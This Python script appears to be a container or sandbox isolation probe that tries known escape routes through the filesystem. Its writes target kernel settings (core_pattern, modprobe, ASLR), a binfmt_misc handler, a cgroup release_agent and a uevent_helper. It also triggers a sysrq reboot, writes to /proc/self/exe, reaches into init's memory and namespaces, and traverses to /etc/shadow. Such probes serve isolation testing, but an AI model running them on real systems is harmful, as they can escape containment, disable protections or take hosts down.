"""Looks for the host through files: python3 host.py WHAT."""
import ctypes
import os
import sys

from attack import attempt, opened, write

libc = ctypes.CDLL(None, use_errno=True)


def mount(source, target, kind):
    if libc.mount(source.encode(), target.encode(), kind.encode(), 0, b"memory") < 0:
        raise OSError(ctypes.get_errno(), "mount")


def nodes():
    for name in ("kvm", "kmsg", "mem", "port", "vda", "sda", "nvme0n1", "loop0", "loop-control", "fuse", "tty", "ptmx",
                 "console", "net/tun", "vhost-net", "dri/card0", "nvidia0", "nvidiactl", "nvidia-modeset", "uinput"):
        attempt(name, opened("/dev/" + name))


def settings():
    for name in ("core_pattern", "modprobe", "hostname", "sysrq", "ns_last_pid", "randomize_va_space"):
        attempt(name, write("/proc/sys/kernel/" + name, "0"))
    attempt("binfmt", write("/proc/sys/fs/binfmt_misc/register", ":x:M::x::/tmp/x:"))
    attempt("user_namespaces", write("/proc/sys/user/max_user_namespaces", "0"))
    attempt("sysrq_trigger", write("/proc/sysrq-trigger", "b"))
    attempt("uevent_helper", write("/sys/kernel/uevent_helper", "/tmp/x"))
    attempt("drop_caches", write("/proc/sys/vm/drop_caches", "3"))


def release_agent():
    os.makedirs("/tmp/groups", exist_ok=True)
    attempt("mount", lambda: mount("cgroup", "/tmp/groups", "cgroup"))
    attempt("release_agent", write("/sys/fs/cgroup/memory/release_agent", "/tmp/x"))
    attempt("notify", write("/sys/fs/cgroup/memory/notify_on_release", "1"))


def groups():
    for name in ("cgroup.procs", "memory.max", "cpu.max", "cgroup.kill", "cgroup.freeze", "memory/memory.limit_in_bytes",
                 "pids/pids.max", "devices/devices.allow", "unified/cgroup.procs"):
        attempt(name, write("/sys/fs/cgroup/" + name, "1"))


def exe():
    attempt("self_exe", opened("/proc/self/exe", os.O_WRONLY))
    attempt("init_exe", opened("/proc/1/exe", os.O_RDONLY))
    attempt("init_link", lambda: os.readlink("/proc/1/exe"))
    attempt("init_fd_exe", opened("/proc/1/fd/3", os.O_RDWR))


def leaks():
    print("fds", ",".join(str(fd) for fd in range(1024) if os.path.lexists("/proc/self/fd/%d" % fd)))
    attempt("init_fds", lambda: len(os.listdir("/proc/1/fd")))
    attempt("init_cwd", lambda: os.readlink("/proc/1/cwd"))
    attempt("cwd", os.getcwd)
    attempt("up", lambda: os.path.samestat(os.stat("../../../../../.."), os.stat("/")) or "ESCAPED")

    def through_fds():
        for fd in os.listdir("/proc/self/fd"):
            try:
                if os.path.exists("/proc/self/fd/%s/../../../../etc/shadow" % fd):
                    return "ESCAPED"
            except OSError:
                pass
        return True
    attempt("fd_up", through_fds)


def size(path):
    def action():
        with open(path, "rb") as file:
            return len(file.read(4096))
    return action


def names():
    print("pids", len([name for name in os.listdir("/proc") if name.isdigit()]))
    print("sys", len(os.listdir("/sys")))
    attempt("firmware", lambda: len(os.listdir("/sys/firmware")))
    with open("/proc/self/cgroup", encoding="utf-8") as file:
        print("cgroups", ",".join(sorted({line.strip().split(":", 2)[2] for line in file})))
    print("hostname", os.uname().nodename)
    for name in ("cmdline", "keys", "kcore", "kallsyms", "modules", "partitions", "timer_list", "sched_debug",
                 "interrupts"):
        attempt(name, size("/proc/" + name))
    attempt("init_environ", size("/proc/1/environ"))

    def command_line():
        with open("/proc/1/cmdline", "rb") as file:
            return len(file.read().strip(b"\0"))
    attempt("init_cmdline", command_line)


def init():
    attempt("root", lambda: len(os.listdir("/proc/1/root")))
    attempt("cwd", lambda: len(os.listdir("/proc/1/cwd/")))
    for name in ("maps", "mem", "environ", "auxv", "pagemap", "stack", "syscall", "io", "personality"):
        attempt(name, size("/proc/1/" + name))
    for name in ("mnt", "user", "net", "pid", "ipc", "uts", "cgroup"):
        attempt("ns_" + name, opened("/proc/1/ns/" + name, os.O_RDONLY))
    attempt("map_files", lambda: len(os.listdir("/proc/1/map_files")))


{"nodes": nodes, "settings": settings, "release_agent": release_agent, "groups": groups, "exe": exe, "leaks": leaks,
 "names": names, "init": init}[sys.argv[1]]()
